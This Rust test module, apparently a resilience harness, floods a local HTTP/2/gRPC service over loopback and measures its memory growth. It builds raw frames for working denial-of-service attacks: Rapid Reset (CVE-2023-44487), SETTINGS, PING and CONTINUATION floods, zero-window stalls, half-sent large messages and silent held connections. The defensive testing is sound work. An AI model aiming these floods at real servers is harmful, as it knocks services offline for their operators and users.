//! Attacks of a hostile peer on an HTTP/2 port, written as bytes, because no client library does
//! any of this.
//!
//! Each attack ends after [`EACH`] or at a bound on connections and bytes, whichever comes first.
//! All of it goes over loopback.

use std::{
    fmt, io,
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::{Instant, timeout, timeout_at},
};

use crate::stage::rss;

/// Time limit of one attack.
const EACH: Duration = Duration::from_millis(700);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Methods of a port for an attacker.
#[derive(Clone, Copy)]
pub(crate) struct Target {
    /// Method that streams requests or responses.
    streaming: &'static str,
    /// Method with one response.
    unary: &'static str,
}

impl Target {
    pub(crate) const API: Self = Self {
        streaming: "/clarion.v1.RegistryService/WriteDevices",
        unary: "/clarion.v1.AlertService/ListAlerts",
    };
    pub(crate) const FEED: Self = Self {
        streaming: "/clarion.shard.v1.FeedService/Feed",
        unary: "/clarion.shard.v1.FeedService/Feed",
    };
    pub(crate) const HEALTH: Self =
        Self { streaming: "/grpc.health.v1.Health/Watch", unary: "/grpc.health.v1.Health/Check" };
    pub(crate) const SESSION: Self = Self {
        streaming: "/clarion.shard.v1.ShardService/Session",
        unary: "/clarion.shard.v1.ShardService/Session",
    };
}

/// Raises the limit of descriptors for the sockets of both ends, which exceed the default of most
/// shells.
pub(crate) fn allow_many_sockets() {
    clarion_runtime::descriptors::raise()
        .expect("the limit can be raised to what the system allows");
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

fn hello(settings: &[(u16, u32)]) -> Vec<u8> {
    let payload: Vec<u8> = settings
        .iter()
        .flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat())
        .collect();
    [PREFACE, &frame(4, 0, 0, &payload)].concat()
}

/// Returns a request's head in HPACK literals.
fn head(path: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    for (name, value) in [
        (":path", path),
        (":authority", "clarion"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ] {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).expect("below 127"));
            block.extend(text.as_bytes());
        }
    }
    block
}

/// Returns an empty message that ends the request.
fn asked(stream: u32, path: &str) -> Vec<u8> {
    [frame(1, 4, stream, &head(path)), frame(0, 1, stream, &[0; 5])].concat()
}

/// Returns the beginning of a message of 4 MiB.
fn begun(stream: u32, path: &str) -> Vec<u8> {
    let message = [&[0][..], &(4_u32 << 20).to_be_bytes(), &[7; 16_000]].concat();
    [frame(1, 4, stream, &head(path)), frame(0, 0, stream, &message)].concat()
}

/// Name of each attack, and the growth of the process after it.
#[derive(Default)]
pub(crate) struct Done {
    counts: Arc<Counts>,
    growth: Vec<(&'static str, f64)>,
}

#[derive(Default)]
struct Counts {
    connections: AtomicU64,
    frames: AtomicU64,
    bytes: AtomicU64,
}

impl fmt::Display for Done {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Counts { connections, frames, bytes } = &*self.counts;
        let [connections, frames, bytes] =
            [connections, frames, bytes].map(|n| n.load(Ordering::Relaxed));
        write!(
            f,
            "{connections} connections, {frames} requests or frames, {:.1} MB; growth in MiB after",
            bytes as f64 / 1e6
        )?;
        self.growth.iter().try_for_each(|(what, mib)| write!(f, " {what} {mib:.1},"))
    }
}

/// Runs all attacks, one after the other, beside connections that are held all the time.
pub(crate) async fn attack(address: SocketAddr, target: Target, pid: u32) -> Done {
    let mut attack = Attack { address, pid, before: rss(pid), done: Done::default() };
    let held = attack.hold_silent(600);
    attack.note("held");
    let Target { streaming, unary } = target;
    // Complete requests whose answers have no end, and heads whose requests have none: 100,000
    // streams.
    attack
        .flood("streams", (200, true), &hello(&[]), move |n| {
            (n <= 500).then(|| asked_or_not(n, streaming))
        })
        .await;
    // CVE-2023-44487.
    let reset =
        move |id| [frame(1, 4, id, &head(unary)), frame(3, 0, id, &8_u32.to_be_bytes())].concat();
    attack
        .flood("resets", (8, true), &hello(&[]), move |n| {
            (n <= 20_000).then(|| reset(stream_id(n)))
        })
        .await;
    // Frames that each require an answer, from a peer that reads none.
    let settings = || frame(4, 0, 0, &[0, 4, 0, 1, 0, 0]);
    attack.flood("settings", (8, false), &hello(&[]), move |n| (n <= 200_000).then(settings)).await;
    attack
        .flood("pings", (8, false), &hello(&[]), |n| {
            (n <= 200_000).then(|| frame(6, 0, 0, &n.to_be_bytes()))
        })
        .await;
    // A head without an end.
    let beginning = [hello(&[]), frame(1, 0, 1, &head(unary))].concat();
    let more = || frame(9, 0, 1, &[&[0, 1, b'x', 127, 0][..], &[b'y'; 127]].concat());
    attack.flood("continuations", (8, true), &beginning, move |n| (n <= 20_000).then(more)).await;
    // Unread answers: without a window, and without reading.
    for (what, window) in [("no window", 0), ("no reader", i32::MAX.cast_unsigned())] {
        let ask = move |n| (n <= 500).then(|| asked(stream_id(n), unary));
        attack.flood(what, (64, false), &hello(&[(4, window)]), ask).await;
    }
    // Large messages that are begun and never completed.
    let large = move |n| {
        (n <= 100).then(|| begun(stream_id(n), if n % 2 == 0 { streaming } else { unary }))
    };
    attack.flood("large messages", (100, true), &hello(&[]), large).await;
    drop(held);
    attack.done
}

fn stream_id(n: u64) -> u32 {
    u32::try_from(2 * n - 1).expect("few")
}

fn asked_or_not(n: u64, path: &str) -> Vec<u8> {
    let id = stream_id(n);
    if n.is_multiple_of(2) { asked(id, path) } else { frame(1, 4, id, &head(path)) }
}

struct Attack {
    address: SocketAddr,
    pid: u32,
    before: u64,
    done: Done,
}

impl Attack {
    fn note(&mut self, what: &'static str) {
        let growth = rss(self.pid).saturating_sub(self.before);
        self.done.growth.push((what, growth as f64 / f64::from(1 << 20)));
    }

    /// Opens connections that send nothing, or half a preface.
    fn hold_silent(&self, connections: usize) -> JoinSet<()> {
        let mut held = JoinSet::new();
        for n in 0..connections {
            let (address, counts) = (self.address, Arc::clone(&self.done.counts));
            held.spawn(async move {
                let Ok(mut stream) = TcpStream::connect(address).await else { return };
                counts.connections.fetch_add(1, Ordering::Relaxed);
                if n % 2 == 0 && stream.write_all(&PREFACE[..10]).await.is_err() {
                    return;
                }
                // Until the other side closes the connection, or this test does.
                let _ = stream.read(&mut [0; 64]).await;
            });
        }
        held
    }

    /// Opens connections that each send a beginning and then repeat a piece, until all is sent, the
    /// other side closes, or the time is up.
    async fn flood(
        &mut self,
        what: &'static str,
        (connections, reads): (usize, bool),
        beginning: &[u8],
        next: impl Fn(u64) -> Option<Vec<u8>> + Copy + Send + Sync + 'static,
    ) {
        let end = Instant::now() + EACH;
        let mut floods = JoinSet::new();
        for _ in 0..connections {
            let (address, counts, beginning) =
                (self.address, Arc::clone(&self.done.counts), beginning.to_vec());
            floods.spawn(timeout_at(end, async move {
                let stream = TcpStream::connect(address).await?;
                counts.connections.fetch_add(1, Ordering::Relaxed);
                let (mut reader, mut writer) = stream.into_split();
                let reading = async {
                    if reads {
                        let _ = tokio::io::copy(&mut reader, &mut tokio::io::sink()).await;
                    } else {
                        std::future::pending::<()>().await;
                    }
                };
                tokio::select! {
                    () = reading => Ok(()),
                    written = write_all(&mut writer, beginning, next, &counts) => written,
                }
            }));
        }
        while floods.join_next().await.is_some() {}
        self.note(what);
    }
}

/// Writes all pieces, and then holds the connection until the time is up, because an open
/// connection costs the other side.
async fn write_all(
    writer: &mut (impl AsyncWrite + Unpin),
    beginning: Vec<u8>,
    next: impl Fn(u64) -> Option<Vec<u8>>,
    counts: &Counts,
) -> io::Result<()> {
    let (mut batch, mut n) = (beginning, 0);
    loop {
        while batch.len() < 32_000
            && let Some(more) = next(n + 1)
        {
            batch.extend(more);
            n += 1;
            counts.frames.fetch_add(1, Ordering::Relaxed);
        }
        if batch.is_empty() {
            return std::future::pending().await;
        }
        counts.bytes.fetch_add(batch.len() as u64, Ordering::Relaxed);
        writer.write_all(&batch).await?;
        batch.clear();
    }
}

/// Opens connections with an incomplete request each; those that are still open after a moment are
/// held until they are dropped.
pub(crate) async fn hold(address: SocketAddr, target: Target, connections: usize) -> Held {
    let mut opening = JoinSet::new();
    for _ in 0..connections {
        opening.spawn(async move {
            let mut stream = TcpStream::connect(address).await.ok()?;
            let request = [hello(&[]), frame(1, 4, 1, &head(target.streaming))].concat();
            stream.write_all(&request).await.ok()?;
            Some(stream)
        });
    }
    Held(opening.join_all().await.into_iter().flatten().collect())
}

/// Connections that are held.
pub(crate) struct Held(Vec<TcpStream>);

impl fmt::Debug for Held {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.0.len())
    }
}

/// Sends lines without an end from many connections until a deadline, and returns the number of
/// bytes.
pub(crate) async fn lines(address: SocketAddr, deadline: Instant) -> u64 {
    let sent = Arc::new(AtomicU64::new(0));
    let mut floods = JoinSet::new();
    for n in 0..200 {
        let sent = Arc::clone(&sent);
        floods.spawn(timeout_at(deadline, async move {
            let Ok(mut stream) = TcpStream::connect(address).await else { return };
            let nonsense = vec![if n % 2 == 0 { b'{' } else { b'\n' }; 64 << 10];
            while stream.write_all(&nonsense).await.is_ok() {
                sent.fetch_add(nonsense.len() as u64, Ordering::Relaxed);
            }
        }));
    }
    while floods.join_next().await.is_some() {}
    sent.load(Ordering::Relaxed)
}

/// Sends one order and returns its answer.
pub(crate) async fn order(address: SocketAddr, order: &str) -> String {
    let mut stream = TcpStream::connect(address).await.expect("it listens");
    stream.write_all(format!("{order}\n").as_bytes()).await.expect("it takes an order");
    let mut answer = vec![0; 4_096];
    let n = timeout(Duration::from_secs(20), stream.read(&mut answer))
        .await
        .expect("in time")
        .expect("an answer");
    String::from_utf8_lossy(&answer[..n]).into_owned()
}
